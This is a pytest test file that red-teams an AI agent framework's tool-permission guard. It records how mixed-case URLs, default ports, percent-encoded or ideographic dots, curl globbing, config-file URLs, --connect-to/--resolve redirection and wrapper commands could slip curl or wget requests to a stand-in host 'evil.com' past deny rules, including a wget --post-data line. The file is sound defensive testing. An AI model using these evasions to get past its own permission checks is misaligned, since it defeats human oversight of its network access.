"""Red team, URL spellings the client folds: ``HTTPS://evil.com:443`` and URLs in shell lines.

``http_request(url:https://evil.com/*): deny`` let ``HTTPS://evil.com:443/x`` through: httpx
drops a scheme's default port only after a lower-case scheme, so the form the guard built kept
``:443``, and the client still went to evil.com. And a URL in a shell command was matched only
as written: ``curl HTTPS://EVIL.COM/x`` passed ``bash(*evil.com*): deny``. A shell word that
is a URL is now matched also as the client sends it, by a rule that restricts.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from jianmu import Constraints, ReactiveRunner, StateManager
from jianmu.guard import ToolPolicyChecker
from jianmu.nodes.state import AgentState
from jianmu.nodes.tool_executor import ToolExecutor
from jianmu.tools.builtin import BashTool
from jianmu.tools.calls import ToolCall
from jianmu.tools.registry import ToolSet

pytestmark = pytest.mark.anyio

HTTP_POLICY = {"http_request": "allow", "http_request(url:https://evil.com/*)": "deny"}


async def said_to(
    tmp_path: Path, policy: dict[str, str], name: str, arguments: dict[str, str]
) -> str:
    """Send one call as a model would; return what the model is told."""
    constraints = Constraints.model_validate(
        {"guard": {"tool_policy": policy}, "execution": {"workdir": str(tmp_path)}}
    )
    state = StateManager(
        AgentState, {"actions": [{"id": "c", "name": name, "arguments": arguments}]}
    )
    tools = ToolSet.resolve(["http_request", "bash"])
    runner = ReactiveRunner(ToolExecutor(tools=tools, constraints=constraints), state,
                            interactive=False)  # fmt: skip
    await runner.run(timeout=60)
    return runner.state.get("messages")[0].content or ""


@pytest.mark.parametrize(
    "url", ["HTTPS://evil.com:443/x", "Https://EVIL.com:443", "HTTPS://u@evil.com.:443/x"]
)
async def test_a_default_port_after_a_capital_scheme_is_still_the_host(
    tmp_path: Path, url: str
) -> None:
    said = await said_to(tmp_path, HTTP_POLICY, "http_request", {"url": url, "method": "GET"})
    assert "denied" in said and "http_request(url:https://evil.com/*)" in said, said


def test_another_port_is_another_address() -> None:
    checker = ToolPolicyChecker(HTTP_POLICY)
    tool = ToolSet.resolve(["http_request"]).get("http_request")
    call = ToolCall(name="http_request", arguments={"url": "HTTPS://evil.com:8443/x"})
    assert checker.resolve(call, tool)[0] == "allow"


def decide(policy: dict[str, str], command: str) -> str:
    call = ToolCall(name="bash", arguments={"command": command})
    return ToolPolicyChecker(policy).resolve(call, BashTool().tool_spec)[0]


@pytest.mark.parametrize(
    ("rule", "command"),
    [("bash(*evil.com*)", "curl HTTPS://EVIL.COM/x"),
     ("bash(*evil.com*)", "curl --url https://EViL.com"),
     ("bash(curl https://evil.com/*)", "curl HTTPS://u@Evil.COM.:443/x"),
     ("bash(*//evil.com/*)", "wget --post-data=x HTTPS://Evil.COM/x"),
     ("bash(curl https://evil.com/*)", "sudo curl https://evil.com"),
     ("bash(curl https://evil.com/*)", "curl https://evil%2Ecom/x"),
     ("bash(*//evil.com/*)", "curl https://evil\u3002com/x")],
)  # fmt: skip
async def test_a_url_in_a_shell_line_meets_a_rule_as_the_client_sends_it(
    tmp_path: Path, rule: str, command: str
) -> None:
    policy = {"bash": "allow", rule: "deny"}
    assert decide(policy, command) == "deny"
    said = await said_to(tmp_path, policy, "bash", {"command": command})
    assert "denied" in said and rule in said, said


@pytest.mark.parametrize(
    ("rule", "command"),
    [("bash(curl https://example.com)", "curl https://example.com"),
     ("bash(curl https://example.com/*)", "curl https://example.com/a%20b")],
)  # fmt: skip
def test_an_allow_rule_still_grants_the_url_as_written(rule: str, command: str) -> None:
    assert decide({rule: "allow"}, command) == "allow"


def test_other_hosts_in_a_shell_line_are_not_caught() -> None:
    policy = {"bash": "allow", "bash(*evil.com*)": "deny"}
    assert decide(policy, "curl https://good.com/evil-com HTTPS://EXAMPLE.org") == "allow"


LOOPBACK = {"bash": "allow", "bash(curl http://127.0.0.1:8765/*)": "deny",
            "bash(wget http://127.0.0.1:8765/*)": "deny"}


@pytest.mark.parametrize(
    "command",
    ["curl -s 127.0.0.1:8765/noscheme",  # no scheme: the clients take it as http://
     "curl -s 127.0.0.1:8765",
     "curl --url=127.0.0.1:8765/x",
     "curl --url=http://127.0.0.1:8765/x",
     "wget -q -O- 127.0.0.1:8765/wgetnoscheme"],
)  # fmt: skip
def test_an_address_without_a_scheme_is_the_url_the_client_fetches(command: str) -> None:
    assert decide(LOOPBACK, command) == "deny"


@pytest.mark.parametrize(
    "command",
    ["curl -s 'http://127.0.0.{1}:8765/curlglob'",  # curl's own globbing makes the URL
     "curl -s 'http://127.0.0.[1-1]:8765/curlrange'",
     "curl -s -K /dev/stdin <<< 'url = \"http://127.0.0.1:8765/config\"'",  # a config file
     "curl -sK cfg",
     "wget -i urls.txt",
     # the URL's host is not where it connects
     "curl -s --connect-to ::127.0.0.1:8765 http://x.invalid:80/u23",
     "curl -s --resolve x.invalid:8765:127.0.0.1 http://x.invalid:8765/u24",
     # a runner the guard does not know, before the client
     "choom -n 0 -- curl -s http://127.0.0.1:8765/u4",
     "npm x -c 'curl -s 127.0.0.1:8765/u6'"],
)  # fmt: skip
async def test_urls_the_client_makes_or_reads_elsewhere_are_not_allowed_unseen(
    tmp_path: Path, command: str
) -> None:
    assert decide(LOOPBACK, command) in ("deny", "confirm")  # (denied where a URL shows)
    said = await said_to(tmp_path, LOOPBACK, "bash", {"command": command})
    assert "denied" in said, said


@pytest.mark.parametrize(
    "command",
    ["curl -X POST -d '{\"a\": [1,2]}' -H 'Content-Type: application/json' http://e.com/x",
     "curl -g 'http://e.com/[a-b]'", "curl https://example.com/a"],
)  # fmt: skip
def test_json_data_and_other_urls_are_still_seen_through(command: str) -> None:
    assert decide(LOOPBACK, command) == "allow"
